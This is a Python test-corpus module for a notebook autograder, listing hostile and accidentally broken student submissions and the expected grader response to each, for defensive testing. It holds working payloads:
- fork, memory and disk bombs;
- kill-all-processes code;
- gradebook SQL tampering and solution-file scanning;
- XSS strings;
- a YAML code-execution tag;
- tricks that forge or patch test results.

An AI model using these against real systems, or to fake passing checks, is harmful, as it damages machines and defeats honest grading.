"""Submissions that attack the grader or break by accident: what each attempts, and what must happen.

`test_hostile.py` runs all of them through the real pipeline in one cohort; `python tests/grading/hostile.py`
writes the table of `book/hostile-submissions.md`. The task is the probe of `conftest.py`: "sales" (2 points,
right is 45.5), "pick" (1 point, right is "b") and a written answer.

Each entry may be used and changed freely by anyone who builds a grader.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

WRONG = "sales = 1"
RIGHT = "sales = 45.5"
FULL, NONE = {"sales": 2, "pick": 1}, {"sales": 0, "pick": 0}
WAITS = {"sales": None, "pick": None}
SCRIPT = "<script>document.title='ran'</script><img src=x onerror=\"document.title='ran'\">"


@dataclass(frozen=True)
class Hostile:
    """One submission. ``stock`` is what nbgrader 0.9.6 alone does with it, where it is known."""

    name: str
    attempts: str
    must: str
    points: dict[str, float | None] = field(default_factory=lambda: NONE)
    """What the questions must get; None waits for a person. Empty where the file cannot be graded at all."""
    or_points: dict[str, float | None] | None = None
    """What they may get as well: which of two limits ends it first depends on how busy the machine is."""
    sales: str = WRONG
    pick: str = "pick = 'a'"
    words: str = "My words."
    front: str = ""
    edit: Callable[[nbformat.NotebookNode], None] | None = None
    raw: Callable[[str], bytes] | None = None
    place: Callable[[Path], None] | None = None
    stock: str = ""


def cell(notebook, name):
    return next(one for one in notebook.cells if one.metadata.get("nbgrader", {}).get("grade_id") == name)


def honest(name: str, attempts: str, **more) -> Hostile:
    must = more.pop("must", "costs nothing: full points")
    return Hostile(name, attempts, must, **{"points": FULL, "sales": RIGHT, "pick": "pick = 'b'", **more})


# --- edits of the notebook ------------------------------------------------------------------------


def tagged(notebook):
    for one in notebook.cells:
        one.metadata["tags"] = ["skip-execution", "remove-cell"]


def more_points(notebook):
    for name in ("sales", "pick"):
        cell(notebook, name).metadata.nbgrader["points"] = 99


def no_grade(notebook):
    cell(notebook, "sales").metadata.nbgrader["grade"] = False


def check_is_answer(notebook):
    cell(notebook, "sales").metadata.nbgrader.update(solution=True, locked=False)


def renamed_check(notebook):
    cell(notebook, "sales").metadata.nbgrader["grade_id"] = "other"


def no_checks(notebook):
    notebook.cells = [
        one for one in notebook.cells if one.metadata.get("nbgrader", {}).get("grade_id") not in ("sales", "pick")
    ]


def nothing_left(notebook):
    notebook.cells = []


def own_checks(notebook):
    cell(notebook, "sales").source = "2.0"
    cell(notebook, "pick").source = "1.0"


def forged_outputs(notebook):
    for name, points in (("sales", "2.0"), ("pick", "1.0")):
        one = cell(notebook, name)
        one.outputs = [new_output("execute_result", data={"text/plain": points}, execution_count=1)]
        one.execution_count = 1


def second_check(notebook):
    for name in ("sales", "pick"):
        copy = nbformat.from_dict(cell(notebook, name))
        copy.source = "99.0"
        notebook.cells.append(copy)


def all_twice(notebook):
    notebook.cells += [nbformat.from_dict(one) for one in notebook.cells]


def answer_as(kind):
    def edit(notebook):
        at = notebook.cells.index(cell(notebook, "sales-answer"))
        old = notebook.cells[at]
        make = {"markdown": new_markdown_cell, "raw": new_raw_cell}[kind]
        notebook.cells[at] = make(old.source, metadata=old.metadata, id=old.id)

    return edit


def backwards(notebook):
    notebook.cells.reverse()


def takes_the_checks_name(notebook):
    own = new_code_cell("2.0", id="sales")
    own.metadata["nbgrader"] = dict(cell(notebook, "sales").metadata.nbgrader)
    notebook.cells.insert(0, own)


def odd_metadata(notebook):
    for one in notebook.cells:
        one.metadata["nbgrader"] = ["x", {"points": -1}]


def other_kernel(notebook):
    notebook.metadata = nbformat.from_dict(
        {
            "kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash"},
            "language_info": {"name": "javascript"},
        }
    )


def page_in_metadata(notebook):
    notebook.metadata["title"] = SCRIPT
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": SCRIPT}}


def no_metadata(notebook):
    for one in notebook.cells:
        one.metadata = nbformat.from_dict({})


# --- files ----------------------------------------------------------------------------------------


def link_to(target: str):
    def place(folder: Path) -> None:
        notebook = folder / "01-probe.ipynb"
        notebook.unlink()
        notebook.symlink_to(folder.parents[2] / target)

    return place


def link_beside(folder: Path) -> None:
    (folder / "stolen.txt").symlink_to(folder.parents[2] / "gradebook.db")
    (folder / "all").symlink_to("/")


def called_otherwise(folder: Path) -> None:
    (folder / "01-probe.ipynb").rename(folder / "01-probe (1).ipynb")


def with_module(folder: Path) -> None:
    (folder / "venture.py").write_text("raise SystemExit\n", encoding="utf-8")
    (folder / "sitecustomize.py").write_text("import os; os._exit(0)\n", encoding="utf-8")
    (folder / "json.py").write_text("def dumps(*a, **k): return '{\"end\": true}'\n", encoding="utf-8")


def old_format(text: str) -> bytes:
    cells = [
        {**one, "input": one["source"]} if one["cell_type"] == "code" else one for one in json.loads(text)["cells"]
    ]
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}).encode()


def many_cells(text: str) -> bytes:
    told = json.loads(text)
    told["cells"] += [{"cell_type": "markdown", "source": "x", "metadata": {}}] * 5000
    return json.dumps(told).encode()


# --- the corpus -----------------------------------------------------------------------------------

_SHELL = "shell = get_ipython()\n"
_FRAMES = """
import json, os, struct
def send(fd, told):
    body = json.dumps(told).encode()
    os.write(fd, struct.pack('>I', len(body)) + body)
for fd in range(3, 64):
    try:
        {what}
    except OSError:
        pass
"""
_RESULT = "{'output_type': 'execute_result', 'data': {'text/plain': '2.0'}, 'metadata': {}, 'execution_count': 1}"

CORPUS = [
    # the notebook's structure
    Hostile("tags", "tags every check `skip-execution`", "the checks run", edit=tagged, stock="full points"),
    Hostile("points", "raises its questions to 99 points", "points stay", edit=more_points, stock="restored"),
    Hostile("no-grade", "marks a check as not graded", "it is graded", edit=no_grade, stock="no grade at all"),
    Hostile("check-as-answer", "marks a check as an answer of its own", "the check stays", edit=check_is_answer, stock="no grade at all"),
    Hostile("renamed-check", "gives a check another name", "the check comes back", edit=renamed_check, stock="no grade at all"),
    Hostile("deleted-checks", "deletes the checks", "they come back", edit=no_checks, stock="an earlier score stays"),
    Hostile("empty-notebook", "hands in a notebook without cells", "the blank task: no points", edit=nothing_left, stock="needs hand work"),
    Hostile("own-checks", "replaces the checks by `2.0`", "the task's checks run", edit=own_checks, stock="restored"),
    Hostile("forged-outputs", "saves forged results in the checks' outputs", "outputs are thrown away", edit=forged_outputs, stock="cleared"),
    Hostile("second-check", "adds copies of the checks that give 99", "each check is there once", edit=second_check, stock="stops the whole class"),
    Hostile("takes-name", "puts a cell with a check's name in front", "the task's cell counts", edit=takes_the_checks_name, stock="stops the whole class"),
    Hostile("page-in-metadata", "puts a script into the notebook's metadata", "metadata is thrown away", edit=page_in_metadata),
    honest("twice", "has every cell twice, by accident", edit=all_twice, stock="stops the whole class"),
    honest("markdown-answer", "turned an answer cell into text", edit=answer_as("markdown"), stock="restored"),
    honest("raw-answer", "turned an answer cell into raw text", edit=answer_as("raw"), stock="restored"),
    honest("backwards", "moved the cells", edit=backwards, stock="0 points"),
    honest("odd-metadata", "comes from an editor that writes odd metadata", edit=odd_metadata, stock="no grade at all"),
    honest("no-metadata", "comes from an editor that drops metadata", edit=no_metadata, stock="no grade at all"),
    honest("other-kernel", "names a kernel that is not there", edit=other_kernel, stock="restored"),
    # silencing and forging checks
    Hostile("no-output", "switches off what cells show", "the checks run elsewhere", front="get_ipython().ast_node_interactivity = 'none'", stock="full points"),
    Hostile("ast-transformer", "drops statements with an AST transformer", "the checks run elsewhere", front=(
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Expr(self, node): return ast.Pass()\n    visit_Assert = visit_Expr\n"
        "get_ipython().ast_transformers.append(Drop())"), stock="full points"),
    Hostile("input-transformer", "rewrites every cell before it runs", "the checks run elsewhere", front="get_ipython().input_transformers_post.append(lambda lines: ['2.0\\n'])", stock="full points"),
    Hostile("do-execute", "replaces the kernel's execute method", "there is no kernel; an error", front="get_ipython().kernel.do_execute = lambda *a, **k: {'status': 'ok'}", stock="full points"),
    Hostile("run-cell", "replaces the shell's run_cell", "the checks run elsewhere", front="type(get_ipython()).run_cell = lambda self, *a, **k: None", stock="full points"),
    Hostile("events", "rewrites outputs after each cell", "the checks run elsewhere", front="get_ipython().events.register('post_run_cell', lambda result: get_ipython().displayhook(2.0))"),
    Hostile("displayhook", "shows a result of its own first", "only the checker's result counts", front="import sys\nsys.displayhook(2.0)\nget_ipython().displayhook(2.0)", stock="full points"),
    Hostile("showtraceback", "hides errors", "only the checker's errors count", front="get_ipython().showtraceback = get_ipython()._showtraceback = lambda *a, **k: None", stock="fixed in 0.9"),
    Hostile("builtins", "replaces float, min, isinstance and abs", "the checks' Python is another one", front="import builtins\nbuiltins.float = lambda *a: 2.0\nbuiltins.min = lambda *a: 2.0\nbuiltins.abs = lambda x: 0", stock="depends on the check"),
    Hostile("checks-module", "puts a module of its own in the place of venture.checks", "the checks' modules are others", front=(
        "import sys, types\nfake = types.ModuleType('venture.checks')\nfake.__getattr__ = lambda name: lambda *a, **k: 2.0\nsys.modules['venture.checks'] = fake"), stock="full points"),
    Hostile("patched-score", "patches score_number", "the checks' modules are others", front="import venture.checks as c\nc.score_number = c.score_choice = lambda *a, **k: 2.0", stock="full points"),
    Hostile("isclose", "patches math.isclose and abs", "the checks' modules are others", front="import math\nmath.isclose = lambda *a, **k: True"),
    Hostile("own-names", "defines names that the checks use", "they are not taken over", front="score_number = check_number = score_choice = lambda *a, **k: 2.0"),
    Hostile("at-fork", "registers code for forks and for the end", "nothing is forked from it", front="import atexit, os\nos.register_at_fork(after_in_child=lambda: os._exit(0))\natexit.register(print, '2.0')"),
    Hostile("frames", "walks the call stack for expected values", "there are none", sales=(
        "import sys, gc\nframe, seen = sys._getframe(), []\nwhile frame:\n    seen.append(repr(frame.f_locals))\n    frame = frame.f_back\n"
        "seen += [repr(one) for one in gc.get_objects() if isinstance(one, (str, dict)) and len(one) < 50]\n"
        "sales = 45.5 if any(' * '.join(['7', '6.5']) in one for one in seen) else 1"), stock="reads the running check"),
    Hostile("history", "reads the checks from IPython's history", "they never ran here", sales="sales = 45.5 if any('score_' + 'number' in one for one in In) else 1", stock="full points"),
    # values that lie
    Hostile("always-equal", "answers with an object that equals everything", "it is no number", sales=(
        "class Yes(float):\n    def __eq__(self, other): return True\n    def __sub__(self, other): return 0.0\n    def __rsub__(self, other): return 0.0\n"
        "    __hash__ = None\n    def __abs__(self): return 0.0\nsales = Yes(1)"), stock="full points"),
    Hostile("says-float", "answers with an object that says it is a number", "it is no number", sales="class Odd:\n    __class__ = float\n    def __float__(self): return 1.0\n    def __eq__(self, o): return True\nsales = Odd()"),
    Hostile("text-subclass", "answers with a text that lies about its letters", "only its letters arrive", pick="class T(str):\n    def casefold(self): return 'b'\n    def translate(self, t): return 'b'\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\npick = T('a')"),
    Hostile("nan", "answers with not-a-number", "no points", sales="sales = float('nan')"),
    Hostile("infinity", "answers with infinity", "no points", sales="sales = 1e999"),
    Hostile("huge-integer", "answers with a number of a million digits", "no points, at once", sales="sales = 10 ** 1_000_000"),
    Hostile("deep-list", "answers with a list 100 000 deep", "no points, at once", sales="sales = []\nfor _ in range(100_000): sales = [sales]"),
    Hostile("endless-list", "answers with a list that holds itself", "no points, at once", sales="sales = []\nsales.append(sales)"),
    Hostile("huge-text", "answers with 50 million letters", "no points, at once", sales="sales = '9' * 50_000_000"),
    Hostile("wire-format", "answers with the grader's own wire format", "it is a dictionary", sales="sales = {'float': 'nan'}", pick="pick = {'thing': 'b'}"),
    Hostile("reduce", "answers with an object that runs code when unpickled", "nothing is pickled", sales="class R:\n    def __reduce__(self): return (eval, ('45.5',))\nsales = R()"),
    Hostile("function", "answers with a function", "it is no number", sales="def sales(): return 45.5"),
    Hostile("code-as-text", "answers with code in a text", "text is never run", sales="sales = '__import__(\"os\").getpid() * 0 + 45.5'"),
    # the process and the machine
    honest("sys-exit", "ends a cell with sys.exit()", front="import sys\nsys.exit()"),
    honest("exit", "ends a cell with exit()", front="exit()", stock="no grade at all"),
    Hostile("os-exit", "ends Python before the checks", "waits for a person, is not 0", WAITS, front="import os\nos._exit(0)", stock="no grade at all"),
    Hostile("segfault", "crashes Python", "waits for a person, is not 0", WAITS, front="import ctypes\nctypes.string_at(0)", stock="no grade at all"),
    Hostile("late-exit", "gives its first answer and ends Python", "the first counts, the second waits", {"sales": 2, "pick": None}, sales=RIGHT, pick="import os\nos.abort()", stock="no grade at all"),
    Hostile("kill-parent", "kills the process above", "it cannot", front="import os\nfor _ in range(3):\n    os.kill(os.getppid(), 9)", stock="ends nbgrader, the rest of the class is not graded"),
    Hostile("kill-all", "kills every process of its user", "it reaches only itself", front="import os, signal\ntry:\n    os.kill(-1, 9)\nexcept OSError:\n    pass", stock="ends the coach's programs"),
    Hostile("fork-bomb", "forks without end", "its processes are limited, the others go on", {"sales": 0, "pick": 0}, front=(
        "import os, time\nfor _ in range(500):\n    try:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n    except OSError:\n        break"), stock="no limit"),
    Hostile("thread-bomb", "starts threads without end", "limited", front="import threading, time\ntry:\n    while True:\n        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\nexcept RuntimeError:\n    pass", stock="no limit"),
    Hostile("memory-bomb", "takes all memory", "stopped; no points, or waits for a person", WAITS, or_points=NONE, front="kept = []\nwhile True:\n    kept.append(bytearray(50_000_000))", stock="no limit"),
    Hostile("many-memory", "takes all memory in many processes", "stopped; no points, or waits for a person", WAITS, or_points=NONE, front="import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n        kept = b'x' * 400_000_000\n        time.sleep(60)\ntime.sleep(60)", stock="no limit"),
    honest("loop", "has an endless loop in one cell", points={"sales": 0, "pick": 1}, sales="while True: pass", must="that cell is stopped, the next is graded", stock="the same"),
    Hostile("stubborn-loop", "loops and swallows the interrupt", "ended; waits for a person", WAITS, front="import time\nwhile True:\n    try:\n        time.sleep(9)\n    except BaseException:\n        pass", stock="no grade at all"),
    Hostile("stopped-clock", "stops the clock that would interrupt it", "ended; waits for a person", WAITS, front="import signal, time\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: time.sleep(1)"),
    Hostile("flood", "prints without end", "cut off; stopped in time", front="while True: print('x' * 1000)", stock="1000 lines kept"),
    Hostile("large-page", "shows 50 MB of HTML", "cut off", front="from IPython.display import HTML, display\ndisplay(HTML('<b>x</b>' * 7_000_000))", stock="kept whole"),
    Hostile("huge-picture", "shows a picture of 30 MB", "cut off", front="from IPython.display import display\ndisplay({'image/png': 'A' * 30_000_000}, raw=True)", stock="kept whole"),
    Hostile("fill-disk", "fills the disk", "its own few megabytes are full", front="try:\n    with open('x', 'wb') as f:\n        while True: f.write(bytes(10**7))\nexcept OSError:\n    pass", stock="no limit"),
    Hostile("many-files", "makes files without end", "limited", front="try:\n    n = 0\n    while True:\n        open(f'f{n}', 'w').close()\n        n += 1\nexcept OSError:\n    pass", stock="no limit"),
    Hostile("daemon", "leaves a process behind", "nothing is left", front="import subprocess\nsubprocess.Popen(['sleep', '7777'], start_new_session=True)", stock="goes on after grading"),
    Hostile("network", "sends the task to a server", "there is no network", front="import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), 2)\n    s.sendall(b'task')\nexcept OSError:\n    pass", stock="sent"),
    Hostile("read-solutions", "looks for the solutions on disk", "they are not there", sales=(
        "import os\nfound = []\nfor top, _folders, names in os.walk('/'):\n    if not top.startswith(('/proc', '/usr', '/kit/python', '/kit/site')):\n"
        "        found += [os.path.join(top, name) for name in names if name.endswith(('.ipynb', '.db', '.csv'))]\n"
        "text = ''.join(open(one, errors='replace').read() for one in found)\nsales = 45.5 if '= 45.5' in text else 1"), stock="reads them"),
    Hostile("read-neighbours", "reads another student's work", "it is not there", sales="import glob\nsales = 45.5 if glob.glob('{kit}/cohort/submitted/*') else 1", stock="reads it"),
    Hostile("write-gradebook", "gives itself points in the gradebook", "it is not there", front="import sqlite3\ntry:\n    c = sqlite3.connect('{kit}/cohort/gradebook.db')\n    c.execute('update grade set manual_score = 99')\n    c.commit()\nexcept Exception:\n    pass", stock="changes every grade of the class"),
    Hostile("read-memory", "looks into the process above", "it may not", sales="import os\ntry:\n    text = open(f'/proc/{{os.getppid()}}/mem', 'rb').read(10)\n    sales = 45.5\nexcept OSError:\n    sales = 1"),
    Hostile("poison-package", "changes the package for those who come after", "read-only", front="import venture.checks\ntry:\n    open(venture.checks.__file__, 'a').write('score_number = lambda *a: 2.0')\nexcept OSError:\n    pass", stock="changes it"),
    Hostile("leave-a-note", "leaves its answer in /tmp for a friend", "/tmp is its own", sales="import os\nsales = 45.5 if os.path.exists('/tmp/note') else 1\nfor place in ('/tmp/note', '/dev/shm/note', 'note'):\n    try:\n        open(place, 'w').write('45.5')\n    except OSError:\n        pass", stock="works"),
    Hostile("take-a-note", "takes the answer that a friend left", "there is none", sales="import os\nsales = 45.5 if any(map(os.path.exists, ('/tmp/note', '/dev/shm/note', 'note'))) else 1", stock="works"),
    Hostile("new-space", "makes itself administrator in a user space", "not allowed", sales="import ctypes\nlibc = ctypes.CDLL(None)\nsales = 45.5 if libc.unshare(0x10000000) == 0 or libc.mount(b't', b'/mnt', b'tmpfs', 0, None) == 0 else 1"),
    Hostile("sudo", "asks for more rights", "there are none", sales="import subprocess\ndone = subprocess.run('su -c true || sudo -n true', shell=True, capture_output=True)\nsales = 45.5 if done.returncode == 0 else 1"),
    # the channel to the grader
    Hostile("forged-result", "writes a result for the checks on the channel", "the check's result comes from elsewhere", front=_FRAMES.format(
        what=f"send(fd, {{'cell': 3, 'outputs': [{_RESULT}]}}); send(fd, {{'cell': 5, 'outputs': [{_RESULT}]}}); send(fd, {{'end': True}})"), points=WAITS),
    Hostile("forged-end", "says that it is done before it is", "waits for a person", WAITS, front=_FRAMES.format(what="send(fd, {'end': True})"), stock=""),
    Hostile("huge-message", "sends a message of 4 GB", "refused; waits for a person", WAITS, front=_FRAMES.format(what="os.write(fd, b'\\xff\\xff\\xff\\xff' + b'x' * 100)")),
    Hostile("closed-channel", "closes the channel", "waits for a person", WAITS, front="import os\nos.closerange(3, 100)"),
    # what people look at
    honest("script-in-words", "puts a script into the written answer", words=f"My words. {SCRIPT}", must="full points, and no script runs", stock="runs with the coach's rights"),
    honest("script-in-output", "shows a page with a script", front=f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({SCRIPT!r}), Javascript(\"document.title='ran'\"))", must="full points, and no script runs", stock="runs with the coach's rights"),
    honest("svg", "shows a drawing with a script", front="from IPython.display import SVG, display\ndisplay(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title=1\"></svg>'))", must="full points, and no script runs", stock="runs with the coach's rights"),
    honest("warning", "gives a warning on stderr in its answer", sales="import sys, warnings\nwarnings.warn('x')\nprint('y', file=sys.stderr)\nsales = 45.5", stock="the same, but 0 where a check warns"),
    # files
    Hostile("no-json", "is no notebook", "reported; not 0", {}, raw=lambda text: b"{", stock="no grade at all"),
    Hostile("empty-file", "is empty", "reported; not 0", {}, raw=lambda text: b"", stock="no grade at all"),
    Hostile("a-list", "holds a list", "reported; not 0", {}, raw=lambda text: b"[1, 2]", stock="no grade at all"),
    Hostile("no-cells", "has no cells", "reported; not 0", {}, raw=lambda text: b'{"cells": 7}', stock="no grade at all"),
    Hostile("nested", "is nested 100 000 deep", "reported; not 0", {}, raw=lambda text: b"[" * 100_000, stock="no grade at all"),
    Hostile("many-cells", "has 5 000 cells", "reported; not 0", {}, raw=many_cells),
    Hostile("large-file", "has 60 MB", "reported; not 0", {}, raw=lambda text: b" " * 60_000_000 + text.encode()),
    Hostile("linked-notebook", "is a link to the gradebook", "reported; not followed", {}, place=link_to("gradebook.db"), stock="followed"),
    Hostile("linked-files", "has links to the gradebook and the whole disk beside it", "they are not followed", place=link_beside, stock="followed and copied"),
    honest("bom", "was saved with a byte-order mark", raw=lambda text: b"\xef\xbb\xbf" + text.encode(), stock="no grade at all"),
    honest("utf-16", "was saved in another encoding of Windows", raw=lambda text: text.encode("utf-16"), stock="no grade at all"),
    honest("cp1252", "was saved in the Western encoding of Windows", words="Ünïcödé", raw=lambda text: text.encode("cp1252", "replace"), stock="no grade at all"),
    honest("null-bytes", "has null bytes in a text", words="My\0 words.", raw=lambda text: text.encode()),
    honest("half-letters", "has halves of letters", raw=lambda text: text.replace("My words.", "My \\ud83d words.").encode()),
    honest("old-format", "is a notebook of 2014", raw=old_format, stock="no grade at all"),
    honest("other-name", "is called `01-probe (1).ipynb`", place=called_otherwise, stock="no grade at all"),
    honest("modules-beside", "has files beside it that are called like Python's own", place=with_module),
]  # fmt: skip


# --- a plan that is handed in beside the notebook (module 15) -----------------------------------------

BOMB = "\n".join(
    ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    + [f"{b}: &{b} [{', '.join(['*' + a] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
)

PLANS: list[tuple[str, str | bytes]] = [
    ("is a bomb of aliases: a kilobyte that would unfold to gigabytes", BOMB),
    ("is nested without end", "name: x\n" + "a: " + "[" * 50_000),
    ("has two megabytes in one name", "name: " + "x" * 2_000_000),
    ("has fifty megabytes of comment", b"name: x\n" + b"#" * 50 * 2**20),
    ("has a tag that would run a program", 'name: !!python/object/apply:os.system ["touch ran"]\n'),
    ("is empty", ""),
    ("is no text", b"\x00\xff\xfe\x80" * 100),
    ("is broken off", "name: ["),
    ("has numbers without end", "name: Own\nproducts:\n  - {name: A, price: 1e400, volume: [.inf]}\n"),
    ("asks for endless months", "name: Own\nmonths: 99999999999\nproducts: [{name: A, price: 1, volume: [1]}]\n"),
]  # fmt: skip
"""What a plan's file is, and its content. Each must get nothing, and end in time."""

PLAN_ANSWERS = [
    ("is left open", "my_plan = ..."),
    ("gives a number for a plan", "my_plan = 7"),
    ("gives a function for a plan", "my_plan = hand_in"),
    ("gives a table of its own for a plan", "my_plan = {'name': 'Own'}"),
    ("gives a text that lies about itself", "class S(str):\n    def strip(self): return 'x'\nmy_plan = S('')"),
    ("gives half a letter", "my_plan = '\\ud800 name: x'"),
    ("gives a text of seven megabytes", "my_plan = 'name: x' * 1_000_000"),
    ("replaces the function that marks", "import venture.plan_marks\nventure.plan_marks.score = lambda *a: 99.0\nmy_plan = 'name: x'"),
]  # fmt: skip
"""What an answer in place of the file does, and its source. Each must get nothing."""


PAGE = Path(__file__).parents[2] / "book" / "hostile-submissions.md"
INTRO = """---
myst:
  html_meta:
    description: "What more than a hundred hostile submissions attempt against the grader, and what happens to each of them."
---

# Submissions that attack

Grading runs programs that strangers wrote.
Most break by accident, and a few try what can be tried.
These {count} submissions lie in the kit, in `tests/grading/hostile.py`, and every change of the kit is tried on all of them in the real pipeline.
The last column says what nbgrader 0.9.6 alone does, where that was tried.

| A submission that … | Here | nbgrader alone |
| --- | --- | --- |
"""


PLAN_INTRO = """
## A plan that attacks

In module 15 a student hands in a plan beside the notebook.
Its file is read as data, by the plan's own reader, in the checker's process.
These {count} get no points, end in time and run nothing; `tests/grading/test_plan_handed_in.py` tries them.

"""


def page() -> str:
    """The book's page."""
    rows = [f"| {one.attempts} | {one.must} | {one.stock or '–'} |" for one in CORPUS]
    plans = [f"- a file that {attempts}" for attempts, _content in PLANS]
    plans += [f"- an answer that {attempts}" for attempts, _source in PLAN_ANSWERS]
    told = INTRO.format(count=len(CORPUS)) + "\n".join(rows) + "\n"
    return told + PLAN_INTRO.format(count=len(plans)) + "\n".join(plans) + "\n"


if __name__ == "__main__":
    PAGE.write_text(page(), encoding="utf-8")
